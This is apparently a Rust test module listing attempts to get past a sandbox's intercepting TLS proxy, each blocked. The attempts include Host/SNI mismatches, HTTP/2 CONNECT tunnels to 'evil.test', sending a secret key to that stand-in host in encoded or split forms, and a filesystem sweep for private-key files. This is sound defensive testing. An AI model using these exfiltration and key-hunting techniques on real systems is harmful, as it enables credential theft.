//! TLS that is looked into, HTTP/2 in it, and a secret for one host.

use super::{Attempt, NONE, told};

pub const ZONES: &[(&str, &[&[&str]])] = &[
    ("api.allowed.test", &[&["93.184.216.10"]]),
    ("web.allowed.test", &[&["93.184.216.15"]]),
    ("expired.allowed.test", &[&["93.184.216.70"]]),
    ("self.allowed.test", &[&["93.184.216.71"]]),
    ("wrong.allowed.test", &[&["93.184.216.72"]]),
    ("client.allowed.test", &[&["93.184.216.73"]]),
    ("plain.allowed.test", &[&["93.184.216.74"]]),
    ("cut.allowed.test", &[&["93.184.216.75"]]),
    ("*.allowed.test", &[&["93.184.216.10"]]),
    ("*.glob.test", &[&["93.184.216.10"]]),
    ("evil.test", &[&["93.184.216.66"]]),
];

/// What may be seen of what is for the host of the secret: its address is connected to before
/// anybody has said what is wanted there.
pub(super) const API: &[&str] = &["dns api.allowed.test *", "tcp 93.184.216.10:443*"];

pub const HTTP2: &[Attempt] = &[
    Attempt {
        id: "A6",
        what: "another host in a request than in TLS",
        code: "seen = https('93.184.216.10', 'api.allowed.test', host='evil.test')",
        seen: "403 host_mismatch",
        told: &[told("https", "evil.test", "host_mismatch")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "A7",
        what: "the same in HTTP/2, and beside it one that is allowed",
        code: "seen = http2('93.184.216.10', 'api.allowed.test', {':authority': 'evil.test'}, {})",
        seen: "host_mismatch, nothing",
        told: &[told("https", "evil.test", "host_mismatch")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "A8",
        what: "two hosts in HTTP/2",
        code: "\
seen = each((host, http2('93.184.216.10', 'api.allowed.test', {'host': host}))
            for host in ('evil.test', 'web.allowed.test', 'api.allowed.test:80'))",
        seen: "all host_mismatch",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "A9",
        what: "another allowed host on the connection of one",
        code: "\
seen = http2('93.184.216.10', 'api.allowed.test', {}, {':authority': 'web.allowed.test'}, {})",
        seen: "nothing, host_mismatch, nothing",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "D17",
        what: "CONNECT in HTTP/2, also for WebSocket and UDP",
        code: "\
def tunnel(more):
    head = {':method': 'CONNECT', ':authority': 'evil.test:443'} | more
    return http2('93.184.216.10', 'api.allowed.test', head, {}).split(', ')
seen = [tunnel(more) for more in (
    {':scheme': None, ':path': None}, {':protocol': 'websocket'}, {':protocol': 'connect-udp'})]",
        seen: "[['host_denied', 'nothing'], ['reset', 'nothing'], ['reset', 'nothing']]",
        contacts: API,
        ..NONE
    },
];

pub const TLS: &[Attempt] = &[
    Attempt {
        id: "E1",
        what: "a hello in single bytes, and in many records",
        code: "\
single = lambda data: [data[at:at + 1] for at in range(len(data))]
records = lambda data: [b''.join(data[:3] + struct.pack('>H', len(part)) + part for part in
                                 (data[at:at + 20] for at in range(5, len(data), 20)))]
seen = (in_pieces('93.184.216.10', 'api.allowed.test', single),
        in_pieces('93.184.216.10', 'api.allowed.test', records))",
        seen: "('TLSv1.3', 'TLSv1.3')",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E1",
        what: "a hello that never ends, and one of 40 KiB",
        code: "\
long = hello('api.allowed.test', extensions=extension(21, bytes(40000)))
seen = (first_word('93.184.216.10', long[:200] + bytes(70000)), first_word('93.184.216.10', long))",
        seen: "('reset', 'reset')",
        told: &[told("tls", "93.184.216.10:443", "unknown_protocol")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E2",
        what: "names in TLS that are two, none, an address, or no names",
        code: "\
name = lambda text, kind=0: bytes([kind]) + struct.pack('>H', len(text)) + text
listed = lambda *names: struct.pack('>H', sum(map(len, names))) + b''.join(names)
api = name(b'api.allowed.test')
seen = each((what, first_word('93.184.216.10', hello(None, extensions=extension(0, data)))) for what, data in (
    ('two', listed(api, name(b'evil.test'))), ('twice', listed(api, api)), ('empty', listed(name(b''))),
    ('none', listed()), ('address', listed(name(b'93.184.216.10'))), ('NUL', listed(name(b'evil.test\\0.glob.test'))),
    ('dots', listed(name(b'api..allowed.test'))), ('kind', listed(name(b'api.allowed.test', 7))),
    ('rest', listed(api) + b'x'), ('short', listed(api)[:-3])))",
        seen: "all reset",
        told: &[told("tls", "93.184.216.10:443", "ambiguous_request")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E3",
        what: "a hello with another one hidden in it, for a host that is passed on otherwise",
        code: "\
hidden = extension(0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\x20' + bytes(32) + b'\\0\\x40' + b'c4n4ry' * 10 + bytes(4))
seen = first_word('93.184.216.15', hello('web.allowed.test', extensions=hidden))",
        // From us: nobody outside was asked.
        seen: "hello",
        ..NONE
    },
    Attempt {
        id: "E4",
        what: "versions of TLS from before 1.2",
        code: "\
seen = each((version, first_word('93.184.216.10', hello('api.allowed.test', version)))
            for version in (0x0002, 0x0300, 0x0301, 0x0302))",
        seen: "all alert",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E5",
        what: "protocols in TLS that there are not, and each that there is",
        code: "\
seen = [agreed('93.184.216.10', 'api.allowed.test', words)
        for words in (['h3'], ['c4n4ry'], ['h2'], ['http/1.1'], ['h3', 'http/1.1'])]",
        seen: "['refused', 'refused', 'h2', 'http/1.1', 'http/1.1']",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E7",
        what: "hosts with certificates that are expired, of nobody, and of somebody else",
        code: "\
seen = each((name, web(name + '.allowed.test', headers='Authorization: Bearer ' + KEY + '\\r\\n'))
            for name in ('expired', 'self', 'wrong'))",
        seen: "all 502 upstream_certificate",
        told: &[
            told("https", "expired.allowed.test", "upstream_certificate"),
            told("https", "self.allowed.test", "upstream_certificate"),
            told("https", "wrong.allowed.test", "upstream_certificate"),
        ],
        contacts: &[
            "dns expired.allowed.test *",
            "dns self.allowed.test *",
            "dns wrong.allowed.test *",
            "tcp 93.184.216.70:443",
            "tcp 93.184.216.71:443",
            "tcp 93.184.216.72:443",
        ],
        ..NONE
    },
    Attempt {
        id: "E8",
        what: "the key of the authority that the guest trusts",
        code: "\
import stat
found, count = [], 0
for top in '/dev /etc /home /root /run /tmp /var'.split():
    for place, _, files in os.walk(top):
        for path in (os.path.join(place, file) for file in files):
            if stat.S_ISREG(os.lstat(path).st_mode) and os.path.getsize(path) < 1 << 22:
                count += 1
                with open(path, 'rb') as file:
                    found += [path] * (b'PRIVATE KEY' in file.read())
seen = (found, count > 100, b'BEGIN CERTIFICATE' in open(os.environ['SSL_CERT_FILE'], 'rb').read())",
        seen: "([], True, True)",
        waits: true,
        ..NONE
    },
    Attempt {
        id: "E9",
        what: "names that a certificate of ours is for",
        code: "\
import ssl
with socket.create_connection(('93.184.216.10', 443), PATIENCE) as stream:
    with ssl.create_default_context().wrap_socket(stream, server_hostname='api.allowed.test') as stream:
        seen = stream.getpeercert()['subjectAltName']",
        seen: "(('DNS', 'api.allowed.test'),)",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "E10",
        what: "a client that trusts nobody is not passed on for it",
        code: "\
import ssl
try:
    with socket.create_connection(('93.184.216.10', 443), PATIENCE) as stream:
        with ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_socket(stream, server_hostname='api.allowed.test'):
            seen = 'connected'
except ssl.SSLError as problem:
    seen = problem.reason",
        seen: "CERTIFICATE_VERIFY_FAILED",
        told: &[told("tls", "api.allowed.test", "authority_not_trusted")],
        contacts: API,
        ..NONE
    },
];

pub const SECRETS: &[Attempt] = &[
    Attempt {
        id: "G2",
        what: "a placeholder in a header to the host of the secret",
        code: "seen = web('api.allowed.test', headers='X-Key: a %s b\\r\\n' % KEY)",
        seen: "x-key",
        told: &[told("https", "api.allowed.test", "allowed")],
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G3",
        what: "the same to another host that is allowed, and to one that is not",
        code: "\
header = 'Authorization: Bearer %s\\r\\n' % KEY
seen = (web('web.allowed.test', headers=header, to='93.184.216.15', tls=False),
        web('evil.test', headers=header, to='93.184.216.66'))",
        seen: "('403 secret_leak', '403 host_not_allowed')",
        told: &[told("http", "web.allowed.test", "secret_leak")],
        ..NONE
    },
    Attempt {
        id: "G4",
        what: "in a path, a body and a cookie to the host of the secret",
        code: "\
seen = (web('api.allowed.test', target='/' + KEY), web('api.allowed.test', body='key=' + KEY),
        web('api.allowed.test', headers='Cookie: a=%s\\r\\n' % KEY), web('api.allowed.test', target='/?key=' + KEY))",
        seen: "('nothing', 'nothing', 'cookie', 'target')",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G5",
        what: "in a header twice, in capitals, and in pieces",
        code: "\
import ssl
two = web('api.allowed.test', headers='X-A: %s%s\\r\\nx-a: %s\\r\\n' % (KEY, KEY, KEY))
capitals = web('api.allowed.test', headers='X-A: %s\\r\\n' % KEY.swapcase())
with socket.create_connection(('93.184.216.10', 443), PATIENCE) as stream:
    with ssl._create_unverified_context().wrap_socket(stream, server_hostname='api.allowed.test') as stream:
        for part in ('GET / HTTP/1.1\\r\\nHost: api.allowed.test\\r\\nX-A: ', KEY[:5], KEY[5:], '\\r\\n\\r\\n'):
            stream.sendall(part.encode())
        pieces = found(responses(stream))
seen = (two, capitals, pieces)",
        seen: "('x-a x-a', 'nothing', 'x-a')",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G7",
        what: "encoded, to another host that is allowed",
        code: "\
import base64
forms = dict(percent=''.join('%%%02x' % byte for byte in KEY.encode()),
             base64=base64.b64encode(KEY.encode()).decode(), credentials='Basic ' + base64.b64encode(b'u:' + KEY.encode()).decode())
seen = {what: web('web.allowed.test', headers='Authorization: %s\\r\\n' % text, to='93.184.216.15', tls=False)
        for what, text in forms.items()}",
        seen: "{'percent': '403 secret_leak', 'base64': '403 secret_leak', 'credentials': '403 secret_leak'}",
        ..NONE
    },
    Attempt {
        id: "G8",
        what: "in credentials",
        code: "\
import base64
credentials = base64.b64encode(b'user:' + KEY.encode()).decode()
seen = web('api.allowed.test', headers='Authorization: Basic %s\\r\\n' % credentials)",
        seen: "authorization",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G9",
        what: "a host that answers with what it was sent, in its body and in a header",
        code: "\
import base64
header = 'Authorization: Bearer %s\\r\\n' % KEY
basic = 'Authorization: Basic %s\\r\\n' % base64.b64encode(b'user:' + KEY.encode()).decode()
whole = plain_web('api.allowed.test', '/reflect', header)
moved = plain_web('api.allowed.test', '/elsewhere', header)
encoded = plain_web('api.allowed.test', '/reflect', basic)
squeezed = plain_web('api.allowed.test', '/reflect', header + 'Accept-Encoding: gzip\\r\\n')
value = 'c4n' + '4ry'
hides = base64.b64encode(('user:' + value).encode()).decode()
seen = (whole.endswith('Bearer ' + KEY), KEY in moved, squeezed.endswith('Bearer ' + KEY),
        [value in said or hides in said for said in (whole, moved, encoded, squeezed)])",
        seen: "(True, True, True, [False, False, False, False])",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G12",
        what: "without TLS to the host of the secret",
        code: "seen = web('api.allowed.test', headers='Authorization: Bearer %s\\r\\n' % KEY, tls=False)",
        seen: "nothing",
        contacts: &["dns api.allowed.test *", "tcp 93.184.216.10:80"],
        ..NONE
    },
    Attempt {
        id: "G19",
        what: "a placeholder of another VM",
        code: "\
other = KEY[:-1] + ('0' if KEY[-1] != '0' else '1')
seen = (len(KEY) >= 32, web('api.allowed.test', headers='X-A: %s\\r\\n' % other))",
        seen: "(True, 'nothing')",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G21",
        what: "a thousand times in one header",
        code: "seen = web('api.allowed.test', headers='X-A: %s\\r\\n' % (KEY * 1000))",
        seen: "x-a",
        contacts: API,
        ..NONE
    },
    Attempt {
        id: "G23",
        what: "TRACE, which shows a request as it was sent on",
        code: "seen = web('api.allowed.test', headers='X-A: %s\\r\\n' % KEY, method='TRACE')",
        seen: "405 host_denied",
        contacts: API,
        ..NONE
    },
];
